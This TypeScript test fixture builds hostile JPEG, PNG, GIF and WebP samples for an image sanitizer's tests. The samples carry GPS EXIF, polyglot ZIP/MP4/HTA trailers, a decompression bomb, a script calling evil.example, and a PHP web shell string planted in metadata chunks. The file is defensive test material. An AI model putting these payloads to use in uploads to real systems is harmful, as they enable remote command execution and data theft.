import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { FindingKind, FormatId } from '../../../sanitizer/protocol.ts'

/** Planted in every hostile place; must be nowhere in an output. */
export const marker = 'SEKISHO-PLANTED-7f3a91'
const script = `<script>fetch("//evil.example/${marker}")</script>`
const php = `<?php system($_GET["c"]); /* ${marker} */ ?>`

export interface Sample {
  readonly name: string
  readonly format: FormatId
  readonly bytes: Buffer
  /** What the report must name, at least. */
  readonly kinds: readonly FindingKind[]
}

/** A small picture with edges, slopes and some grain, the same every time. */
export function pixels(width: number, height: number, channels: 3 | 4 = 3): Buffer {
  const data = Buffer.alloc(width * height * channels)
  let seed = 1
  for (let y = 0, at = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff
      const grain = (seed >> 20) % 9
      data[at++] = 60 + (x * 120) / width + grain
      data[at++] = 40 + (y * 150) / height + grain
      data[at++] = (x > width / 3 && y > height / 2 ? 200 : 90) + grain
      if (channels === 4) data[at++] = x < width / 4 ? 0 : x < width / 2 ? 128 : 255
    }
  }
  return data
}

export const picture = (format: 'jpeg' | 'png' | 'webp' | 'gif', width = 48, height = 32): Promise<Buffer> =>
  sharp(pixels(width, height), { raw: { width, height, channels: 3 } })
    .toFormat(format, format === 'webp' ? { lossless: true } : {})
    .toBuffer()

const be16 = (value: number): Buffer => Buffer.from([value >> 8, value & 255])
const be32 = (value: number): Buffer => Buffer.from([value >>> 24, (value >> 16) & 255, (value >> 8) & 255, value & 255])
const le32 = (value: number): Buffer => be32(value).reverse()

/** Big-endian TIFF entries: tag, type, count, value or offset. */
const entry = (tag: number, type: number, count: number, value: Buffer): Buffer =>
  Buffer.concat([be16(tag), be16(type), be32(count), value, Buffer.alloc(4 - value.length)])

/**
 * An EXIF block as a phone writes it: orientation, maker (with the marker), position of the city hall, time, and a thumbnail directory.
 * 35°41'22.4"N 139°41'30.1"E, 37.5 m, 2026-04-01 09:15:00.
 */
export function exif(orientation: number): Buffer {
  const make = Buffer.from(`${marker}\0`)
  const taken = Buffer.from('2026:04:01 09:15:00\0')
  const rationals = (...values: number[]): Buffer => Buffer.concat(values.map(be32))
  const latitude = rationals(35, 1, 41, 1, 224, 10)
  const longitude = rationals(139, 1, 41, 1, 301, 10)
  const altitude = rationals(75, 2)
  const ifd0 = 8
  const exifIfd = ifd0 + 2 + 4 * 12 + 4
  const gpsIfd = exifIfd + 2 + 12 + 4
  const ifd1 = gpsIfd + 2 + 6 * 12 + 4
  const values = ifd1 + 2 + 12 + 4
  const at = { make: values, taken: values + make.length, latitude: values + make.length + 20 }
  const directory = (next: number, ...entries: Buffer[]): Buffer => Buffer.concat([be16(entries.length), ...entries, be32(next)])
  return Buffer.concat([
    Buffer.from('MM\0*'),
    be32(ifd0),
    directory(
      ifd1,
      entry(0x010f, 2, make.length, be32(at.make)),
      entry(0x0112, 3, 1, be16(orientation)),
      entry(0x8769, 4, 1, be32(exifIfd)),
      entry(0x8825, 4, 1, be32(gpsIfd)),
    ),
    directory(0, entry(0x9003, 2, 20, be32(at.taken))),
    directory(
      0,
      entry(1, 2, 2, Buffer.from('N\0')),
      entry(2, 5, 3, be32(at.latitude)),
      entry(3, 2, 2, Buffer.from('E\0')),
      entry(4, 5, 3, be32(at.latitude + 24)),
      entry(5, 1, 1, Buffer.from([0])),
      entry(6, 5, 1, be32(at.latitude + 48)),
    ),
    directory(0, entry(0x0201, 4, 1, be32(values))),
    make,
    taken,
    latitude,
    longitude,
    altitude,
  ])
}

/** The end of a ZIP that holds a class file: with it a picture is also a Java archive (GIFAR). */
export const zipTail = Buffer.concat([Buffer.from(`PK\x03\x04${marker}.class`), Buffer.from('PK\x05\x06'), Buffer.alloc(18)])
/** A motion photo: an MP4 behind the picture. */
const mp4Tail = Buffer.concat([be32(24), Buffer.from(`ftypmp42\0\0\0\0mp42isom${marker}`)])

// JPEG

export const segment = (code: number, body: Buffer): Buffer => Buffer.concat([Buffer.from([0xff, code]), be16(body.length + 2), body])
/** Behind SOI. */
export const withSegment = (jpeg: Buffer, code: number, body: Buffer): Buffer =>
  Buffer.concat([jpeg.subarray(0, 2), segment(code, body), jpeg.subarray(2)])

async function jpegSamples(): Promise<readonly Sample[]> {
  const plain = await picture('jpeg')
  const profiled = await sharp(pixels(48, 32), { raw: { width: 48, height: 32, channels: 3 } })
    .withIccProfile('p3')
    .jpeg()
    .toBuffer()
  const sample = (name: string, bytes: Buffer, ...kinds: FindingKind[]): Sample => ({ name: `JPEG: ${name}`, format: 'jpeg', bytes, kinds })
  return [
    sample(
      'EXIF with position and thumbnail',
      withSegment(plain, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), exif(6)])),
      'metadata',
      'location',
      'thumbnail',
    ),
    sample(
      'XMP with position',
      withSegment(plain, 0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta exif:GPSLatitude="35,41N">${marker}</x:xmpmeta>`)),
      'metadata',
      'location',
    ),
    sample('IPTC', withSegment(plain, 0xed, Buffer.from(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20\x1c\x02\x50${marker}`)), 'metadata'),
    sample('comment with script', withSegment(plain, 0xfe, Buffer.from(script)), 'metadata'),
    sample('ICC profile', profiled, 'colour-profile'),
    sample('multi-picture format', withSegment(plain, 0xe2, Buffer.from(`MPF\0II*\0\x08\0\0\0${marker}`)), 'thumbnail'),
    sample('JFXX thumbnail', withSegment(plain, 0xe0, Buffer.from(`JFXX\0\x10${marker}`)), 'thumbnail'),
    sample('ZIP behind the end (GIFAR)', Buffer.concat([plain, zipTail]), 'trailing-bytes'),
    sample('MP4 behind the end (motion photo)', Buffer.concat([plain, mp4Tail]), 'trailing-bytes'),
    sample('HTML behind the end', Buffer.concat([plain, Buffer.from(script)]), 'trailing-bytes'),
    sample('PDF header within the first 1,024 bytes', withSegment(plain, 0xfe, Buffer.from(`%PDF-1.7\n${marker}`)), 'metadata'),
  ]
}

// PNG

export function chunk(name: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), body])
  return Buffer.concat([be32(body.length), named, be32(crc32(named))])
}
/** Behind IHDR. */
export const withChunk = (png: Buffer, ...chunks: Buffer[]): Buffer => Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])

/** IHDR and whatever image data is given, to lie with. */
export const liarPng = (width: number, height: number, idat: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', Buffer.concat([be32(width), be32(height), Buffer.from([8, 2, 0, 0, 0])])),
    chunk('IDAT', deflateSync(idat)),
    chunk('IEND', Buffer.alloc(0)),
  ])

async function pngSamples(): Promise<readonly Sample[]> {
  const plain = await picture('png')
  const sample = (name: string, bytes: Buffer, ...kinds: FindingKind[]): Sample => ({ name: `PNG: ${name}`, format: 'png', bytes, kinds })
  const frame = Buffer.concat([be32(0), be32(48), be32(32), be32(0), be32(0), be16(1), be16(10), Buffer.from([0, 0])])
  return [
    sample('PHP in tEXt', withChunk(plain, chunk('tEXt', Buffer.from(`Comment\0${php}`))), 'metadata'),
    sample('PHP in zTXt', withChunk(plain, chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(php)]))), 'metadata'),
    sample(
      'PHP in iTXt',
      withChunk(plain, chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${php} exif:GPSLatitude`))),
      'metadata',
      'location',
    ),
    sample('PHP in iCCP', withChunk(plain, chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(php)]))), 'colour-profile'),
    sample('position in eXIf', withChunk(plain, chunk('eXIf', exif(1))), 'metadata', 'location', 'thumbnail'),
    sample('unknown chunk', withChunk(plain, chunk('evIl', Buffer.from(marker))), 'unknown'),
    sample(
      'zTXt bomb',
      withChunk(plain, chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(32 * 1024 * 1024))]))),
      'metadata',
    ),
    sample(
      'animation',
      withChunk(
        plain,
        chunk('acTL', Buffer.concat([be32(1), be32(0)])),
        chunk('fcTL', frame),
        chunk('fdAT', Buffer.from(`\0\0\0\x01${marker}`)),
      ),
      'animation',
    ),
    sample('ZIP behind the end', Buffer.concat([plain, zipTail]), 'trailing-bytes'),
    sample('HTML application behind the end', Buffer.concat([plain, Buffer.from(`<hta:application>${script}`)]), 'trailing-bytes'),
  ]
}

// GIF

/** Before the trailer. */
export const withBlock = (gif: Buffer, block: Buffer): Buffer => Buffer.concat([gif.subarray(0, -1), block, gif.subarray(-1)])
export const gifBlock = (label: number, ...parts: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0x21, label]),
    ...parts.map((part) => Buffer.concat([Buffer.from([part.length]), Buffer.from(part, 'latin1')])),
    Buffer.alloc(1),
  ])
/** One pixel, `frames` times, with 20 ms each and an endless loop. */
export function gifOf(frames: number, width = 1, height = 1): Buffer {
  const head = Buffer.from([
    0x47,
    0x49,
    0x46,
    0x38,
    0x39,
    0x61,
    width & 255,
    width >> 8,
    height & 255,
    height >> 8,
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ])
  // LZW with code size 2: clear, colour 1, end, in three bits each.
  const frame = Buffer.from([0x21, 0xf9, 4, 0, 2, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x4c, 0x01, 0])
  return Buffer.concat([
    head,
    gifBlock(0xff, 'NETSCAPE2.0', '\x01\0\0'),
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ])
}

async function gifSamples(): Promise<readonly Sample[]> {
  const plain = await picture('gif')
  const sample = (name: string, bytes: Buffer, ...kinds: FindingKind[]): Sample => ({ name: `GIF: ${name}`, format: 'gif', bytes, kinds })
  return [
    sample('comment with script', withBlock(plain, gifBlock(0xfe, script)), 'metadata'),
    sample('application extension with XMP', withBlock(plain, gifBlock(0xff, 'XMP DataXMP', php)), 'metadata'),
    sample('plain text extension', withBlock(plain, gifBlock(0x01, '\0'.repeat(12), marker)), 'unknown'),
    sample('ZIP behind the end (GIFAR)', Buffer.concat([plain, zipTail]), 'trailing-bytes'),
    sample('JavaScript behind the end', Buffer.concat([plain, Buffer.from(`*/=1;${script}`)]), 'trailing-bytes'),
  ]
}

// WebP

export function riff(...chunks: readonly (readonly [string, Buffer])[]): Buffer {
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    ...chunks.map(([name, bytes]) => Buffer.concat([Buffer.from(name), le32(bytes.length), bytes, Buffer.alloc(bytes.length & 1)])),
  ])
  return Buffer.concat([Buffer.from('RIFF'), le32(body.length), body])
}
/** The bitstream of a simple file inside an extended one, with further chunks. */
export function extendedWebp(
  webp: Buffer,
  width: number,
  height: number,
  flags: number,
  ...chunks: readonly (readonly [string, Buffer])[]
): Buffer {
  const header = Buffer.alloc(10)
  header[0] = flags
  header.writeUIntLE(width - 1, 4, 3)
  header.writeUIntLE(height - 1, 7, 3)
  return riff(['VP8X', header], [webp.toString('latin1', 12, 16), webp.subarray(20, 20 + webp.readUInt32LE(16))], ...chunks)
}

async function webpSamples(): Promise<readonly Sample[]> {
  const plain = await picture('webp')
  const sample = (name: string, bytes: Buffer, ...kinds: FindingKind[]): Sample => ({ name: `WebP: ${name}`, format: 'webp', bytes, kinds })
  return [
    sample('EXIF with position', extendedWebp(plain, 48, 32, 0x08, ['EXIF', exif(1)]), 'metadata', 'location', 'thumbnail'),
    sample('XMP', extendedWebp(plain, 48, 32, 0x04, ['XMP ', Buffer.from(`<x:xmpmeta>${php}</x:xmpmeta>`)]), 'metadata'),
    sample('unknown chunk', extendedWebp(plain, 48, 32, 0, ['EVIL', Buffer.from(marker)]), 'unknown'),
    sample('ZIP behind the end', Buffer.concat([plain, zipTail]), 'trailing-bytes'),
  ]
}

export const hostilePictures = async (): Promise<readonly Sample[]> => [
  ...(await jpegSamples()),
  ...(await pngSamples()),
  ...(await gifSamples()),
  ...(await webpSamples()),
]
